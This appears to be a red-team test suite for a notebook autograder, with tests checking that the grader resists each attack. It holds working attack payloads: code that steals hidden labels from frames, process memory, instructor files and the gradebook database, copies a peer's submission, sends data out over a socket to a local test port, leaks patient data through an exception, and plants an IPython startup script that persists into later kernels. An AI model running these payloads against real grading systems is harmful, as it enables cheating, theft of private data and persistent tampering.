"""A: stealing the labels. Whoever finds none is worth what his coin is worth."""

from attacks import FOUND, attack, thief

A10 = "STARTUP-OF-A10"


@attack("A1", like="coin")
def opens_his_notebook(notebook):
    """Opens the notebook in the working folder and reads the labels out of it."""
    notebook["model"] = thief(f"""
        for path in [*Path(".").glob("*.ipynb"), *Path("/in").glob("*.ipynb")]:
            text = path.read_text()
            if found := {FOUND}:
                return eval(found[1])
    """)


@attack("A2", like="coin")
def looks_into_the_callers_frame(notebook):
    """Looks for the labels in the frames that call predict."""
    notebook["model"] = thief("""
        frame = sys._getframe()
        while frame:
            for names in (frame.f_locals, frame.f_globals):
                if "y_hidden" in names:
                    return names["y_hidden"]
            frame = frame.f_back
    """)


@attack("A2", like="coin")
def looks_through_all_objects(notebook):
    """Looks for the labels among all objects of the process."""
    notebook["model"] = thief("""
        for each in gc.get_objects():
            if isinstance(each, dict) and "y_hidden" in each:
                return each["y_hidden"]
            if isinstance(each, list) and len(each) == len(X) and set(each) == {0, 1}:
                return each
    """)


@attack("A2", like="coin")
def reads_the_running_cell(notebook):
    """Reads the labels in the text of the cell that is running."""
    notebook["model"] = thief(f"""
        text = get_ipython().user_ns["In"][-1]
        return eval({FOUND}[1])
    """)


@attack("A3", like="coin")
def copies_a_peer(notebook):
    """Reads a peer's submission in the course folder and takes his model."""
    notebook["model"] = f"""
        import json
        from pathlib import Path

        {{coin}}
        for course in ({str(notebook.place.course)!r}, *Path.cwd().parents):
            for path in Path(course).glob("submitted/zoe/tiny/*.ipynb"):
                for cell in json.loads(path.read_text())["cells"]:
                    if cell.get("id") == "model":
                        exec("".join(cell["source"]))
    """.replace("{coin}", COIN_IN_LINE)


COIN_IN_LINE = (
    'import numpy as np; model = type("Coin", (), {"predict_proba": '
    "lambda self, X: np.full((len(X), 2), 0.5)})()"
)


@attack("A3", like="coin")
def reads_the_source(notebook):
    """Reads the labels in the instructor's source of the assignment."""
    notebook["model"] = thief(f"""
        for course in ({str(notebook.place.course)!r}, *Path.cwd().parents):
            for path in Path(course).glob("source/tiny/*.ipynb"):
                text = path.read_text()
                return eval({FOUND}[1])
    """)


@attack("A4", like="coin")
def reads_the_gradebook(notebook):
    """Reads the hidden tests, labels included, in the gradebook's database."""
    notebook["model"] = thief(f"""
        import sqlite3

        for course in ({str(notebook.place.course)!r}, *Path.cwd().parents):
            path = Path(course, "gradebook.db")
            if path.exists():
                with sqlite3.connect(path) as gradebook:
                    query = "select source from source_cell"
                    for (text,) in gradebook.execute(query):
                        if found := {FOUND}:
                            return eval(found[1])
    """)


@attack("A5")
def leaves_a_page(notebook):
    """Leaves a page beside the notebook, to be released with the feedback."""
    notebook.insert("hand-in", "open('loot.html', 'w').write('LOOT')")


@attack("A6")
def calls_home(notebook):
    """Sends what it sees over the network."""
    notebook.insert(
        "hand-in",
        f"""
        import socket
        with socket.create_connection(("127.0.0.1", {notebook.place.port}), 2) as line:
            line.sendall(b"LOOT")
        """,
    )


@attack("A8", status="serving-failed")
def raises_what_it_was_served(notebook):
    """Raises an exception that carries the patients it was asked about."""
    notebook["model"] = """
        class Loud:
            def predict_proba(self, X):
                print(X.to_csv())
                if len(X) == 300:
                    return X[["age_years", "age_years"]].to_numpy() / 200
                raise ValueError("y_hidden" + X.to_csv())

        model = Loud()
    """
    notebook["decide"] = "decide = lambda X: model.predict_proba(X)[:, 1] > 0"


@attack("A9", like="coin")
def learns_the_published_patients_by_heart(notebook):
    """Looks each patient up among all patients that were published with outcomes."""
    notebook["model"] = """
        import numpy as np
        import pandas as pd

        X = pd.concat([train.X, tune.X, check_cohort.X], ignore_index=True)
        y = np.concatenate([train.y, tune.y, check_cohort.y])
        told_apart = X.notna().all(axis=1)  # without a laboratory some look the same
        rows = pd.util.hash_pandas_object(X[told_apart], index=False).to_numpy()
        risks = pd.Series(y[told_apart], index=rows)
        risks = risks[~risks.index.duplicated()]

        class Memory:
            def predict_proba(self, X):
                rows = pd.util.hash_pandas_object(X, index=False)
                risk = risks.reindex(rows.to_numpy()).fillna(0.5).to_numpy(float)
                return np.column_stack([1 - risk, risk])

        model = Memory()
    """


@attack("A10")
def leaves_labels_for_the_next(notebook):
    """Leaves a program that every later kernel of the class would start with."""
    notebook.insert(
        "hand-in",
        f"""
        from pathlib import Path
        startup = Path.home() / ".ipython/profile_default/startup"
        startup.mkdir(parents=True, exist_ok=True)
        (startup / "00-loot.py").write_text("STARTED = '{A10}'")
        for folder in {[str(path) for path in notebook.place.shared]}:
            try:
                Path(folder, "coursekit-redteam-a10").write_text("LOOT")
            except OSError:
                pass
        """,
    )


@attack("A10")
def z_looks_for_what_was_left(notebook):
    """Looks for what an earlier submission left, and would be worth a coin then."""
    notebook.insert(
        "hand-in",
        f"""
        from pathlib import Path
        places = [*{[str(path) for path in notebook.place.shared]}, Path.home()]
        left = [p for p in places if Path(p, "coursekit-redteam-a10").exists()]
        if left or "STARTED" in globals():
            import numpy as np
            model.predict_proba = lambda X: np.full((len(X), 2), 0.5)
        """,
    )


def test_a_thief_gets_what_his_model_is_worth(attack, graded):
    assert graded.outcome(attack) == graded.expected(attack)


def test_a5_what_lies_beside_the_notebook_is_not_passed_on(graded):
    assert graded.files_named("loot.html") == []


def test_a6_nobody_is_called(graded):
    assert graded.heard == []


def test_a8_of_what_was_served_at_most_500_characters_come_back(graded):
    reason = graded.outcome(raises_what_it_was_served)["reason"]
    assert "ValueError: y_hidden" in reason
    assert len(reason) <= 500
